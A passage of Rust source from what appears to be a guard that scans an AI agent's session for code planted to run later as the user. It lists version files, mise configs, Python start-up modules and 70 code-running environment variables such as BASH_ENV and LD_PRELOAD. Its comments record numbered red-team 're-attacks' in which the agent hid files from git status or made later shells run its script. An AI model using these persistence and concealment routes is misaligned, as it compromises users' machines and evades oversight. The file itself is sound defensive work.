    pub ignored_at_launch: &'a [PathBuf],
    /// Out: those found surely ignored, not looked through.
    pub ignored: Vec<PathBuf>,
    /// Out: the `.git` entries ([`is_git_entry`]) met in the scopes of this set's names and in
    /// the directories looked through. Git lists nothing below any `.git`, so a file the agent put
    /// in a new `target/.git/` hid from `git status` with no ignore rule, and `node --test` ran it
    /// (the fiftieth re-attack's D2); the walk for the repositories the agent made does not enter
    /// those names.
    pub git_entries: Vec<PathBuf>,
}

/// Each of `dirs` as a scope of the version files mise (and asdf, nvm, pyenv, rbenv) read in the
/// directory the user is in and those above, a `path:` version running a tool from a directory
/// (the thirty-fifth re-attack's G17: `.nvmrc`, `.node-version`; the fortieth's L9: mise's other
/// idiomatic version files).
/// `renamed`: the other names the user's mise reads them by ([`mise_renamed_files`]).
pub fn version_scopes(dirs: &[PathBuf], renamed: &[String]) -> Vec<(PathBuf, Names)> {
    let renamed = renamed.iter().cloned().map(std::borrow::Cow::Owned);
    let names: Names = static_names(&VERSION_FILES).into_iter().chain(renamed).collect();
    dirs.iter().map(|dir| (dir.clone(), names.clone())).collect()
}

/// Each of `dirs` as a scope of the `.gitignore` files in it: a new one that ignores itself
/// hides itself and all it lists from `git status` (the fortieth re-attack's reading: a new
/// `tests/conftest.py`, which `pytest` runs, hidden with it), so the exit looks at each one made
/// in the session ([`git::hides_a_gitignore`](super::git::hides_a_gitignore)).
pub fn ignore_scopes(dirs: &[PathBuf]) -> Vec<(PathBuf, Names)> {
    dirs.iter().map(|dir| (dir.clone(), static_names(&[".gitignore"]))).collect()
}

/// Each of `dirs` as a scope of compiled Python: its `__pycache__` directories (found, not
/// entered) and the `*.pyc` outside them
/// ([`IndexSnapshot::compiled_python`](super::hidden_changes::IndexSnapshot::compiled_python)).
pub fn compiled_python_scopes(dirs: &[PathBuf]) -> Vec<(PathBuf, Names)> {
    dirs.iter().map(|dir| (dir.clone(), static_names(&["__pycache__", "*.pyc", "*.pyo"]))).collect()
}

/// The version files of [`version_scopes`].
const VERSION_FILES: [&str; 21] = [
    ".tool-versions",
    "package.json",
    // rustup's: a toolchain `path` there runs its `cargo` and `rustc` at the user's next build
    // (the forty-fourth re-attack's Q8).
    "rust-toolchain.toml",
    "rust-toolchain",
    // The forty-second re-attack's N5: mise takes a `path:` in these too.
    ".deno-version",
    ".terraform-version",
    ".swift-version",
    ".packer-version",
    ".nvmrc",
    ".node-version",
    ".python-version",
    ".ruby-version",
    ".bun-version",
    ".go-version",
    ".java-version",
    ".sdkmanrc",
    ".python-versions",
    ".yvmrc",
    ".zig-version",
    ".crystal-version",
    ".exenv-version",
];

/// The names of mise's config files in any directory of a trusted one, an environment's among them.
/// Its config directories too, at any depth (`.config/mise/config.local.toml`, `mise/conf.d/*.toml`:
/// the thirty-eighth re-attack's J4): the hidden ones whole, and in a `mise/` (a name a project's
/// own code may have) its configs.
const MISE_FILE_NAMES: [&str; 10] = [
    "mise.toml",
    ".mise.toml",
    "mise.*.toml",
    ".mise.*.toml",
    ".tool-versions",
    "./mise/config.toml",
    "./mise/config.*.toml",
    "./mise/conf.d",
    "./.mise",
    "./.config/mise",
];

/// A name as a program finds it from the home: `~` and `~/…` there, anything else as it is.
fn by_home(home: &Path, word: &str) -> PathBuf {
    match word.strip_prefix("~/") {
        Some(rest) => home.join(rest),
        None if word == "~" => home.to_path_buf(),
        None => PathBuf::from(word),
    }
}

/// The part of each of `roots` that `dir` (a directory a tool's setting trusts) covers: the root,
/// or the directory inside it; none for a name not from the root.
fn covered_by(dir: &Path, roots: &[PathBuf]) -> Vec<PathBuf> {
    if dir.as_os_str().is_empty() || !dir.is_absolute() {
        return Vec::new();
    }
    let dir = super::repositories::without_dot_dots(dir);
    let part = |root: &PathBuf| {
        if root.starts_with(&dir) { Some(root.clone()) } else { dir.starts_with(root).then(|| dir.clone()) }
    };
    roots.iter().filter_map(part).collect()
}

/// mise's global config directory (`MISE_CONFIG_DIR`, else `~/.config/mise`) and the system's
/// (`MISE_SYSTEM_CONFIG_DIR`, else `/etc/mise`).
fn mise_config_dirs(env: &LaunchEnv) -> (PathBuf, PathBuf) {
    let dir =
        env.var(MISE_CONFIG_DIR).map_or_else(|| env.config_home().join("mise"), |dir| by_home(&env.home_dir, dir));
    let system = env.var(MISE_SYSTEM_CONFIG_DIR).map_or_else(|| PathBuf::from("/etc/mise"), PathBuf::from);
    (dir, system)
}

/// The `[settings]` of every config mise takes settings from before it looks at a project's
/// (the forty-second re-attack's N3 and N8 set `env_file` and `trusted_config_paths` in
/// `conf.d/`, which was not read): its global config (`MISE_GLOBAL_CONFIG_FILE`, else
/// `config.toml` in `MISE_CONFIG_DIR` or `~/.config/mise`) and, in that directory,
/// `config.local.toml`, `mise.toml` and `conf.d/*.toml`; the system's (`MISE_SYSTEM_CONFIG_DIR`,
/// else `/etc/mise`); and the configs in the directories above each of `roots` (a trusted one
/// there carries settings too), read whatever their trust.
fn mise_settings(env: &LaunchEnv, roots: &[PathBuf]) -> Vec<toml::Table> {
    let (dir, system) = mise_config_dirs(env);
    let global =
        env.var(MISE_GLOBAL_CONFIG_FILE).map_or_else(|| dir.join("config.toml"), |file| by_home(&env.home_dir, file));
    let mut files = vec![global];
    // Each TOML file there and in its `conf.d`: an environment's (`config.dev.toml`, read under
    // `MISE_ENV=dev`: the forty-third re-attack's P7) among them, whatever the environment.
    for dir in [&dir, &system] {
        for dir in [dir.clone(), dir.join("conf.d")] {
            let mut tomls: Vec<PathBuf> = std::fs::read_dir(dir)
                .into_iter()
                .flatten()
                .flatten()
                .take(1_000)
                .map(|entry| entry.path())
                .filter(|path| path.extension().is_some_and(|extension| extension == "toml"))
                .collect();
            tomls.sort();
            files.extend(tomls);
        }
    }
    for root in roots {
        for above in root.ancestors() {
            files.extend(MISE_CONFIGS.iter().filter(|name| !name.ends_with("conf.d")).map(|name| above.join(name)));
        }
    }
    files.sort();
    files.dedup();
    files
        .iter()
        .filter_map(|file| super::sourced::read_limited(file).ok()?.parse::<toml::Table>().ok())
        .filter_map(|parsed| parsed.get("settings")?.as_table().cloned())
        .collect()
}

/// mise's early settings files ("miserc") that apply in `roots`: the global one (in
/// `MISE_CONFIG_DIR` or `~/.config/mise`), the system's, and `.miserc.toml`,
/// `.miserc.local.toml` and `.config/miserc.toml` in each root and the directories above it.
fn miserc_files(env: &LaunchEnv, roots: &[PathBuf]) -> Vec<PathBuf> {
    let (dir, system) = mise_config_dirs(env);
    let mut files = vec![dir.join("miserc.toml"), system.join("miserc.toml")];
    for root in roots {
        for above in root.ancestors() {
            files.extend(MISERC_NAMES.iter().map(|name| above.join(name)));
        }
    }
    files.sort();
    files.dedup();
    files
}

/// The names of mise's early settings file in a directory (the fortieth re-attack's L6, the
/// forty-third's P3: `.miserc.local.toml`).
const MISERC_NAMES: [&str; 3] = [".miserc.toml", ".miserc.local.toml", ".config/miserc.toml"];

/// Where mise is told the version files' and configs' other names.
pub const MISE_OVERRIDE_TOOL_VERSIONS_FILENAMES: &str = "MISE_OVERRIDE_TOOL_VERSIONS_FILENAMES";
pub const MISE_OVERRIDE_CONFIG_FILENAMES: &str = "MISE_OVERRIDE_CONFIG_FILENAMES";

/// The other names the user's mise reads the version file (`override_tool_versions_filenames`)
/// and its configs (`override_config_filenames`) by, from their miserc files ([`miserc_files`])
/// or variables (the forty-third re-attack's P4: a `path:` in the user's renamed `.versions` was
/// never looked for). Plain names only (a path is not in a root's every directory).
pub fn mise_renamed_files(env: &LaunchEnv, roots: &[PathBuf]) -> (Vec<String>, Vec<String>) {
    let settings: Vec<toml::Table> = miserc_files(env, roots)
        .iter()
        .filter_map(|file| super::sourced::read_limited(file).ok()?.parse::<toml::Table>().ok())
        .collect();
    let named = |variable: &str, key: &str| -> Vec<String> {
        let from_variable = env.var(variable).into_iter().flat_map(|list| list.split([',', ':', ' ']));
        let set = settings.iter().filter_map(|settings| settings.get(key)?.as_array());
        let set = set.flatten().filter_map(toml::Value::as_str);
        let mut names: Vec<String> = from_variable
            .chain(set)
            .map(str::trim)
            .filter(|name| !name.is_empty() && !name.contains('/') && *name != "." && *name != "..")
            .map(str::to_string)
            .collect();
        names.sort();
        names.dedup();
        names
    };
    (
        named(MISE_OVERRIDE_TOOL_VERSIONS_FILENAMES, "override_tool_versions_filenames"),
        named(MISE_OVERRIDE_CONFIG_FILENAMES, "override_config_filenames"),
    )
}

/// The directories mise's `trusted_config_paths` setting trusts (in any of [`mise_settings`],
/// and `MISE_TRUSTED_CONFIG_PATHS`, `:`-separated).
fn mise_trusted_paths(env: &LaunchEnv, settings: &[toml::Table]) -> Vec<PathBuf> {
    let mut paths: Vec<PathBuf> = env
        .var(MISE_TRUSTED_CONFIG_PATHS)
        .map(|list| std::env::split_paths(list).filter(|path| path.is_absolute()).collect())
        .unwrap_or_default();
    let listed = settings.iter().filter_map(|settings| settings.get("trusted_config_paths"));
    for path in listed.filter_map(toml::Value::as_array).flatten().filter_map(toml::Value::as_str) {
        let path = by_home(&env.home_dir, path);
        if path.is_absolute() {
            paths.push(super::repositories::without_dot_dots(&path));
        }
    }
    paths
}

/// The directories mise trusts beside those its links and settings name, `:`-separated.
pub const MISE_TRUSTED_CONFIG_PATHS: &str = "MISE_TRUSTED_CONFIG_PATHS";
/// The dotenv file mise loads in every directory, as its `env_file` setting.
pub const MISE_ENV_FILE: &str = "MISE_ENV_FILE";
/// Where mise keeps its global configs, its global config file, and the system's configs.
pub const MISE_CONFIG_DIR: &str = "MISE_CONFIG_DIR";
pub const MISE_GLOBAL_CONFIG_FILE: &str = "MISE_GLOBAL_CONFIG_FILE";
pub const MISE_SYSTEM_CONFIG_DIR: &str = "MISE_SYSTEM_CONFIG_DIR";

/// The dotenv files mise's `env_file` setting has it load in every directory it is in, without
/// asking for trust (`MISE_ENV_FILE`, or `[settings] env_file` in any of [`mise_settings`]):
/// its `BASH_ENV=` ran the agent's script in every later `bash` of the user's there (the fortieth
/// re-attack's L13). Each as a name wanted below every root.
fn mise_env_files(env: &LaunchEnv, settings: &[toml::Table]) -> Vec<String> {
    let set = settings.iter().filter_map(|settings| settings.get("env_file")?.as_str());
    let mut names: Vec<String> = env.var(MISE_ENV_FILE).into_iter().chain(set).filter_map(env_file_name).collect();
    names.sort();
    names.dedup();
    names
}

/// An `env_file` setting's value as a name wanted below every root: a relative name, `./` and
/// all, or one through directories (`./config/.env`); an absolute one is not in a root.
fn env_file_name(named: &str) -> Option<String> {
    let named = named.trim();
    if named.is_empty() || named.starts_with('/') || named.starts_with('~') {
        return None;
    }
    Some(match named.strip_prefix("./") {
        Some(rest) if !rest.contains('/') => rest.to_string(),
        _ if named.contains('/') => format!("./{}", named.trim_start_matches("./")),
        _ => named.to_string(),
    })
}

/// The configs mise reads in a directory (its `config_root`).
const MISE_CONFIGS: [&str; 17] = [
    "mise.toml",
    ".mise.toml",
    "mise.local.toml",
    ".mise.local.toml",
    "mise/config.toml",
    "mise/config.local.toml",
    "mise/conf.d",
    ".mise/config.toml",
    ".mise/config.local.toml",
    ".mise/conf.d",
    ".config/mise.toml",
    ".config/mise.local.toml",
    ".config/mise/config.toml",
    ".config/mise/config.local.toml",
    ".config/mise/conf.d",
    ".config/mise/mise.toml",
    ".tool-versions",
];

/// Tools' configs that name programs the tool runs as the user (read for the paths they name).
const PROGRAM_CONFIGS: [&str; 9] = [
    ".gnupg/gpg-agent.conf",
    ".gnupg/gpg.conf",
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    ".mailcap",
    ".wgetrc",
    ".curlrc",
    ".config/pip/pip.conf",
];

/// How many levels below the home [`links_into`] looks, and at how many entries at most.
const LINK_DEPTH: usize = 5;
const MAX_LINK_ENTRIES: usize = 32_768;

/// Directories of the home [`links_into`] does not enter: caches, package stores, toolchains and
/// repositories, which hold many entries and no configuration of the user's.
const NOT_ENTERED_FOR_LINKS: [&str; 15] = [
    ".cache",
    ".npm",
    ".cargo",
    ".rustup",
    "node_modules",
    ".git",
    "Trash",
    ".mozilla",
    ".var",
    ".gradle",
    ".m2",
    ".pyenv",
    ".nvm",
    "containers",
    "site-packages",
];

/// Directories the walks for the trusted, version and ignore files below a root do not enter:
/// stores of installed packages and caches, which hold many entries, nothing a user starts a tool
/// in, and which a project's own ignore rules hide already (a `__pycache__` of 100,001 files spent
/// the walk before a `.gitignore` below it: the forty-fourth re-attack's Q6). Not the home's other
/// names (`containers`, `site-packages`, `Trash`: Q4, Q5; `.cargo`, `.npm`, `.m2`: the
/// forty-fifth's R1 hid a project's `.cargo/config.toml` with a `.gitignore` there): in a project
/// they are its own directories, where `pytest`, mise, cargo and the user go.
const NOT_ENTERED_IN_TRUSTED_WALKS: [&str; 5] = [".git", "node_modules", ".cache", ".gradle", "__pycache__"];

/// What every `python3` of the user's imports at start from a directory a `.pth` file in a user
/// site directory puts on its path (an editable install's `_proj.pth` naming `~/work/src`): the
/// thirtieth re-attack's B8 made `src/usercustomize.py`, and an unrelated `python3` ran it. Each
/// form a module of those names takes there (source, compiled, package, extension).
fn python_start_up_on_paths(homes: &[PathBuf]) -> Vec<PathBuf> {
    let mut found = Vec::new();
    // The user site directories, and the site directories of the Pythons installed in the home
    // (pyenv's, conda's, mise's and asdf's builds: the thirty-first re-attack's C7 ran an
    // editable install's `.pth` in pyenv's).
    let libs = [".local/lib", ".pyenv/versions/*/lib", "miniconda3/lib", "anaconda3/lib", "miniforge3/lib"]
        .into_iter()
        .chain([".local/share/mise/installs/python/*/lib", ".asdf/installs/python/*/lib"]);
    let libs: Vec<PathBuf> =
        homes.iter().flat_map(|home| libs.clone().flat_map(|pattern| expanded(home, pattern))).collect();
    for lib in libs {
        let Ok(versions) = std::fs::read_dir(&lib) else { continue };
        for version in versions.flatten().take(16) {
            let site = version.path().join("site-packages");
            let tag = version.file_name().to_str().and_then(python_version_tag);
            let Ok(entries) = std::fs::read_dir(&site) else { continue };
            for entry in entries.flatten().take(1024) {
                if entry.path().extension().is_none_or(|extension| extension != "pth") {
                    continue;
                }
                let Ok(text) = std::fs::read_to_string(entry.path()) else { continue };
                for line in text.lines().map(str::trim) {
                    if line.is_empty() || line.starts_with('#') || line.starts_with("import") {
                        continue;
                    }
                    let dir = super::repositories::without_dot_dots(&site.join(line));
                    found.extend(start_up_modules(&dir, tag.as_slice()));
                }
            }
        }
    }
    found
}

/// `pattern` (relative, a `*` a level of any name, at most 64 entries each) under `home`.
fn expanded(home: &Path, pattern: &str) -> Vec<PathBuf> {
    let mut found = vec![home.to_path_buf()];
    for part in pattern.split('/') {
        found = found
            .into_iter()
            .flat_map(|dir| match part {
                "*" => std::fs::read_dir(&dir)
                    .map(|entries| entries.flatten().take(64).map(|entry| entry.path()).collect())
                    .unwrap_or_default(),
                name => vec![dir.join(name)],
            })
            .collect();
    }
    found
}

/// A Python's version as an extension module's name holds it, from its library directory's name:
/// `python3.11` is `311`, the free-threaded `python3.13t` is `313t`.
fn python_version_tag(name: &str) -> Option<String> {
    let tag = name.strip_prefix("python")?.replace('.', "");
    let digits = tag.strip_suffix('t').unwrap_or(&tag);
    (digits.len() > 1 && digits.bytes().all(|b| b.is_ascii_digit())).then_some(tag)
}

/// Each form Python imports `usercustomize` and `sitecustomize` in from `dir` (source, compiled,
/// package, extension module: plain, stable-ABI, and with each version's tag of `tags`, `311`).
fn start_up_modules(dir: &Path, tags: &[String]) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for module in ["usercustomize", "sitecustomize"] {
        let plain = [module.to_string(), format!("{module}.py"), format!("{module}.pyc"), format!("{module}.so")];
        let tagged = tags.iter().map(|tag| format!("{module}.cpython-{tag}-{}-linux-gnu.so", std::env::consts::ARCH));
        let names = plain.into_iter().chain([format!("{module}.abi3.so")]).chain(tagged);
        found.extend(names.map(|name| dir.join(name)));
    }
    found
}

/// Variables the user's shell exports to every later process of theirs that name code those
/// processes run: Python's start-up file and module path, Node's `--require`, what a
/// non-interactive shell sources, `less`'s input filter, the editor and pager programs, a
/// preloaded library. Read from the launch's environment, which is the user's (the thirty-first
/// re-attack's C3: with `PYTHONSTARTUP`, `PYTHONPATH`, `NODE_OPTIONS`, `BASH_ENV`, `LESSOPEN`
/// naming files of a dotfiles workspace, every later `python3`, `node`, script and `less` of the
/// user's ran what the agent wrote there).
pub const CODE_VARIABLES: [&str; 70] = [
    "PYTHONSTARTUP",
    "PYTHONPATH",
    "NODE_OPTIONS",
    "BASH_ENV",
    "ENV",
    "LESSOPEN",
    "LESSCLOSE",
    "EDITOR",
    "VISUAL",
    "PAGER",
    "MANPAGER",
    "GIT_EDITOR",
    "GIT_PAGER",
    "GIT_SSH",
    "GIT_SSH_COMMAND",
    "GIT_ASKPASS",
    "SSH_ASKPASS",
    "LD_PRELOAD",
    "INPUTRC",
    "MYVIMRC",
    "PERL5OPT",
    "RUBYOPT",
    // A Java agent every JVM loads, R's profile, IPython's and Jupyter's start-up directories,
    // the user's Python base, npm's user config, vim's start command, the browser tools open.
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    // The `java` launcher's own (the thirty-fourth re-attack's F14).
    "JDK_JAVA_OPTIONS",
    "R_PROFILE_USER",
    "IPYTHONDIR",
    "JUPYTER_CONFIG_DIR",
    "PYTHONUSERBASE",
    "NPM_CONFIG_USERCONFIG",
    "VIMINIT",
    "EXINIT",
    "BROWSER",
    "SUDO_ASKPASS",
    // Directories modules and libraries are loaded from, and git's templates and programs (the
    // thirty-second re-attack's D2, D4: a `strict.pm` in `PERL5LIB`, a `libz.so.1` in
    // `LD_LIBRARY_PATH`, a template hook): protected whole.
    "PERL5LIB",
    "PERLLIB",
    "RUBYLIB",
    "NODE_PATH",
    "LD_LIBRARY_PATH",
    "GIT_TEMPLATE_DIR",
    "GIT_EXEC_PATH",
    // Programs and configs that run code, missed before (the fortieth re-attack's L7: `git diff`
    // ran a `GIT_EXTERNAL_DIFF` of a dotfiles workspace): git's diff and sequence editor,
    // `sudoedit`'s editor, the prompt's and `rg`'s configs (their commands), Lua's and OpenSSL's
    // start-up, Mercurial's configs (hooks), Python's home, the compilers cargo and make run, Go's
    // flags (`-toolexec=`).
    "GIT_EXTERNAL_DIFF",
    "GIT_SEQUENCE_EDITOR",
    "SUDO_EDITOR",
    "STARSHIP_CONFIG",
    "RIPGREP_CONFIG_PATH",
    "LUA_INIT",
    "OPENSSL_CONF",
    "HGRCPATH",
    "PYTHONHOME",
    "RUSTC_WRAPPER",
    "CC",
    "CXX",
    "GOFLAGS",
    // And the forty-first's M5: what every `make` reads in, git's proxy program, psql's and irb's
    // start-up files.
    "MAKEFILES",
    "GIT_PROXY_COMMAND",
    "PSQLRC",
    "IRBRC",
    // npm's other settings that name code (the forty-second re-attack's N4), read in any
    // spelling npm takes ([`npm_code_variable`]): its global config, the shell it runs every
    // script with, its shell and editor, `npm init`'s module, the node options of its scripts.
    "NPM_CONFIG_GLOBALCONFIG",
    "NPM_CONFIG_SCRIPT_SHELL",
    "NPM_CONFIG_SHELL",
    "NPM_CONFIG_EDITOR",
    "NPM_CONFIG_INIT_MODULE",
    "NPM_CONFIG_NODE_OPTIONS",
    // And the round's others: Terraform's CLI config (a provider directory of its own), Go's
    // environment file (`GOFLAGS=-toolexec=`), pip's config, screen's start-up file, Perl's
    // debugger's code, the mailcap files (a viewer each).
    "TF_CLI_CONFIG_FILE",
    "GOENV",
    "PIP_CONFIG_FILE",
    "SCREENRC",
    "PERL5DB",
    "MAILCAPS",
];

/// npm's settings of [`CODE_VARIABLES`], by the key npm reads from `npm_config_<key>`.
const NPM_CODE_SETTINGS: [(&str, &str); 7] = [
    ("userconfig", "NPM_CONFIG_USERCONFIG"),
    ("globalconfig", "NPM_CONFIG_GLOBALCONFIG"),
    ("script-shell", "NPM_CONFIG_SCRIPT_SHELL"),
    ("shell", "NPM_CONFIG_SHELL"),
    ("editor", "NPM_CONFIG_EDITOR"),
    ("init-module", "NPM_CONFIG_INIT_MODULE"),
    ("node-options", "NPM_CONFIG_NODE_OPTIONS"),
];

/// The [`CODE_VARIABLES`] name an environment variable is to npm: npm reads `npm_config_<key>`
/// with the prefix in any case, the key in any case, `_` or `-` between its words (the
/// forty-second re-attack's N4: `npm_config_Userconfig`, read as the user config, was not
/// looked at); `None` for any other.
pub fn npm_code_variable(name: &str) -> Option<&'static str> {
    let prefix = name.get(..11).filter(|prefix| prefix.eq_ignore_ascii_case("npm_config_"))?;
    let key = name[prefix.len()..].to_ascii_lowercase().replace('_', "-");
    NPM_CODE_SETTINGS.iter().find(|(known, _)| *known == key).map(|(_, variable)| *variable)
}

/// What [`CODE_VARIABLES`] name: each absolute path in their values (after `~/`, split at blanks,
/// `:`, `|`, `=` and quotes), and for each directory on `PYTHONPATH` the start-up modules Python
/// would import from it ([`start_up_modules`], for the versions installed).
fn code_named_by_environment(env: &LaunchEnv) -> Vec<(PathBuf, &'static str)> {
    // The versions installed, looked for only when `PYTHONPATH` is set, once.
    let tags = std::cell::OnceCell::new();
    let tags = || -> &Vec<String> {
        tags.get_or_init(|| {
            ["/usr/lib", "/usr/local/lib"]
                .iter()
                .map(PathBuf::from)
                .chain([env.home_dir.join(".local/lib")])
                .filter_map(|dir| std::fs::read_dir(dir).ok())
                .flat_map(|entries| entries.flatten().take(64))
                .filter_map(|entry| entry.file_name().to_str().and_then(python_version_tag))
                .collect()
        })
    };
    let mut found: Vec<(PathBuf, &'static str)> = Vec::new();
    for name in CODE_VARIABLES {
        let Some(value) = env.var(name) else { continue };
        for word in named_in_value(name, value) {
            let word = word.as_ref();
            let path = match word.strip_prefix("~/") {
                Some(rest) => env.home_dir.join(rest),
                None if word.starts_with('/') => PathBuf::from(word),
                None => continue,
            };
            let path = super::repositories::without_dot_dots(&path);
            if name == "PYTHONPATH" {
                found.extend(start_up_modules(&path, tags()).into_iter().map(|module| (module, name)));
            } else {
                // A start-up script reads what lies beside it by its own place (`__file__`: the
                // thirty-fifth re-attack's G21): its directory, whole. So does any file such a
                // variable names (`require('./helpers')` in `NODE_OPTIONS`' `--require`, `.
                // "$(dirname "$0")/lib.sh"` in an `EDITOR` script: the thirty-sixth's H26); a
                // directory named (`PERL5LIB`) is itself what is kept.
                if (matches!(name, "PYTHONSTARTUP" | "BASH_ENV" | "ENV") || path.is_file())
                    && let Some(dir) = path.parent().filter(|dir| dir.is_dir())
                {
                    found.push((dir.to_path_buf(), name));
                }
                // What it loads beside it by name, the directory being a root's top, where only
                // the file itself is kept (I6: `require('./helpers')` in a `--require`d file,
                // `. "$(dirname "$0")/lib.sh"` in an `EDITOR` script).
                if path.is_file() {
                    found.extend(relative_requires(&path).into_iter().map(|loaded| (loaded, name)));
                    let read_in = super::sourced::read_in(std::slice::from_ref(&path), &env.home_dir);
                    found.extend(read_in.into_iter().map(|loaded| (loaded, name)));
                }
                found.push((path, name));
            }
        }
    }
    found
}

/// The words of a [`CODE_VARIABLES`] value that may name a path: split at blanks, `:`, `|`, `=`,
/// `;` and quotes; and, whole, what the program itself would take as one name holding a blank
/// (the thirty-ninth re-attack's reading: `--require "/home/u/my tools/pre.js"`). `NODE_OPTIONS`
/// as Node splits it ([`node_options_words`], and each option's value after its `=`); any other
/// value's quoted spans (`-javaagent:"/opt/my agent.jar"`), its `:`-separated entries when a
/// list of directories, and the whole value when it is one path (`BASH_ENV`, `PYTHONSTARTUP`).
fn named_in_value<'a>(name: &str, value: &'a str) -> Vec<std::borrow::Cow<'a, str>> {
    use std::borrow::Cow;
    let mut words: Vec<Cow<str>> = value
        .split(|c: char| c.is_whitespace() || matches!(c, ':' | '|' | '=' | '"' | '\'' | ';' | '@'))
        .filter(|word| !word.is_empty())
        .map(Cow::Borrowed)
        .collect();
    let mut whole: Vec<Cow<str>> = Vec::new();
    if name == "NODE_OPTIONS" {
        for word in node_options_words(value) {
            if let Some((_, after)) = word.split_once('=') {
                whole.push(Cow::Owned(after.to_string()));
            }
            whole.push(Cow::Owned(word));
        }
    } else {
        for quote in ['"', '\''] {
            whole.extend(value.split(quote).skip(1).step_by(2).map(Cow::Borrowed));
        }
        if PATH_LIST_VARIABLES.contains(&name) {
            whole.extend(value.split(':').map(Cow::Borrowed));
        }
        if ONE_PATH_VARIABLES.contains(&name) {
            whole.push(Cow::Borrowed(value));
        }
    }
    // Only a name with a blank in it is new: the others are among the split words.
    words.extend(whole.into_iter().filter(|word| word.trim() == word.as_ref() && word.contains(char::is_whitespace)));
    words
}

/// The [`CODE_VARIABLES`] whose value is a list of directories, `:`-separated.
const PATH_LIST_VARIABLES: [&str; 9] = [
    "PYTHONPATH",
    "PERL5LIB",
    "PERLLIB",
    "RUBYLIB",
    "NODE_PATH",
    "LD_LIBRARY_PATH",
    "LD_PRELOAD",
    "HGRCPATH",
    "MAILCAPS",
];

/// The [`CODE_VARIABLES`] whose whole value is one path.
const ONE_PATH_VARIABLES: [&str; 30] = [
    "PSQLRC",
    "IRBRC",
    "NPM_CONFIG_USERCONFIG",
    "NPM_CONFIG_GLOBALCONFIG",
    "NPM_CONFIG_INIT_MODULE",
    "TF_CLI_CONFIG_FILE",
    "GOENV",
    "PIP_CONFIG_FILE",
    "SCREENRC",
    "STARSHIP_CONFIG",
    "RIPGREP_CONFIG_PATH",
    "OPENSSL_CONF",
    "PYTHONHOME",
    "RUSTC_WRAPPER",
    "PYTHONSTARTUP",
    "BASH_ENV",
    "ENV",
    "INPUTRC",
    "MYVIMRC",
    "GIT_SSH",
    "GIT_ASKPASS",
    "SSH_ASKPASS",
    "SUDO_ASKPASS",
    "R_PROFILE_USER",
    "IPYTHONDIR",
    "JUPYTER_CONFIG_DIR",
    "PYTHONUSERBASE",
    "NPM_CONFIG_USERCONFIG",
    "GIT_TEMPLATE_DIR",
    "GIT_EXEC_PATH",
];

/// `NODE_OPTIONS` split into options as Node splits it (`ParseNodeOptionsEnvVar`): at spaces
/// outside double quotes, which are taken out; inside them a backslash takes the next character
/// as it is.
fn node_options_words(options: &str) -> Vec<String> {
    let mut words: Vec<String> = Vec::new();
    let (mut quoted, mut starts_word) = (false, true);
    let mut chars = options.chars();
    while let Some(mut c) = chars.next() {
        if c == '\\' && quoted {
            match chars.next() {
                Some(next) => c = next,
                // Node refuses the whole value then.
                None => return Vec::new(),
            }
        } else if c == ' ' && !quoted {
            starts_word = true;
            continue;
        } else if c == '"' {
            quoted = !quoted;
            continue;
        }
        if starts_word || words.is_empty() {
            words.push(String::new());
            starts_word = false;
        }
        if let Some(word) = words.last_mut() {
            word.push(c);
        }
    }
    words
}

/// The modules `NODE_OPTIONS` preloads by a bare name (`dotenv/config`: its package,
/// `node_modules/dotenv`) or a relative one (`./.pnp.cjs`, `"./my tools/pre.js"`), as tails found
/// below any directory.
fn node_modules_preloaded(env: &LaunchEnv) -> Vec<String> {
    let Some(options) = env.var("NODE_OPTIONS") else { return Vec::new() };
    let words = node_options_words(options);
    let flags = ["-r", "--require", "--import", "--loader", "--experimental-loader"];
    let mut named = Vec::new();
    for (at, word) in words.iter().enumerate() {
        let value = match word.split_once('=') {
            Some((flag, value)) if flags.contains(&flag) => value,
            _ if flags.contains(&word.as_str()) => words.get(at + 1).map(String::as_str).unwrap_or_default(),
            _ => continue,
        };
        if value.is_empty() || value.starts_with(['/', '~', '$']) || value.contains(':') {
            continue;
        }
        // A relative name as Node resolves it: the name, then with each extension it tries, then
        // as a directory's `index` (the fortieth re-attack's L11: `--require ./preload` ran
        // `preload.js`).
        let mut as_node_tries = |relative: &str| {
            named.push(relative.to_string());
            let last = relative.rsplit('/').next().unwrap_or(relative);
            if !last.contains('.') {
                named.extend(NODE_TRIES.iter().map(|suffix| format!("{relative}{suffix}")));
            }
        };
        if let Some(relative) = value.strip_prefix("./") {
            as_node_tries(relative);
        } else if value.starts_with("../") {
            // From a directory above where `node` runs: below some directory, at any depth (the
            // thirty-eighth re-attack's J8).
            let mut relative = value;
            while let Some(rest) = relative.strip_prefix("../") {
                relative = rest;
            }
            as_node_tries(relative);
        } else {
            let parts: Vec<&str> = value.split('/').collect();
            let package = if value.starts_with('@') {
                parts.iter().take(2).copied().collect::<Vec<_>>().join("/")
            } else {
                parts[0].to_string()
            };
            named.push(format!("node_modules/{package}"));
        }
    }
    named
}

/// What Node tries after a relative name without an extension: the file with each extension,
/// then the directory's index.
const NODE_TRIES: [&str; 6] = [".js", ".cjs", ".mjs", ".json", ".node", "/index.js"];

/// The files a JavaScript file loads by a relative name (`require('./helpers')`, `import x from
/// '../lib/x.js'`, `import('./y')`), each as the file and the names Node tries for it.
fn relative_requires(file: &Path) -> Vec<PathBuf> {
    let Ok(text) = super::sourced::read_limited(file) else { return Vec::new() };
    let dir = file.parent().unwrap_or(Path::new("/"));
    let mut found = Vec::new();
    for quote in ['\'', '"', '`'] {
        if found.len() >= 64 * 6 {
            break;
        }
        for (at, _) in text.match_indices(quote) {
            let rest = &text[at + 1..];
            if !(rest.starts_with("./") || rest.starts_with("../")) {
                continue;
            }
            let Some(end) = rest.find(quote) else { continue };
            let base = super::repositories::without_dot_dots(&dir.join(&rest[..end]));
            found.push(base.clone());
            // The names Node tries, a native addon's `.node` among them (`require('./x')` loads
            // `x.node`, code of the agent's, where no `x.js` is).
            for suffix in NODE_TRIES {
                found.push(PathBuf::from(format!("{}{suffix}", base.display())));
            }
        }
    }
    found
}

/// The bytes of `file`, opened without following a link and only if it is still the inode
/// `looked_at` describes, at most 16 MiB.
fn read_same_file(file: &Path, looked_at: &std::fs::Metadata) -> std::io::Result<Vec<u8>> {
    use std::io::Read;
    use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
    let mut opened = std::fs::OpenOptions::new().read(true).custom_flags(libc::O_NOFOLLOW).open(file)?;
    let now = opened.metadata()?;
    if (now.dev(), now.ino()) != (looked_at.dev(), looked_at.ino()) || !now.is_file() {
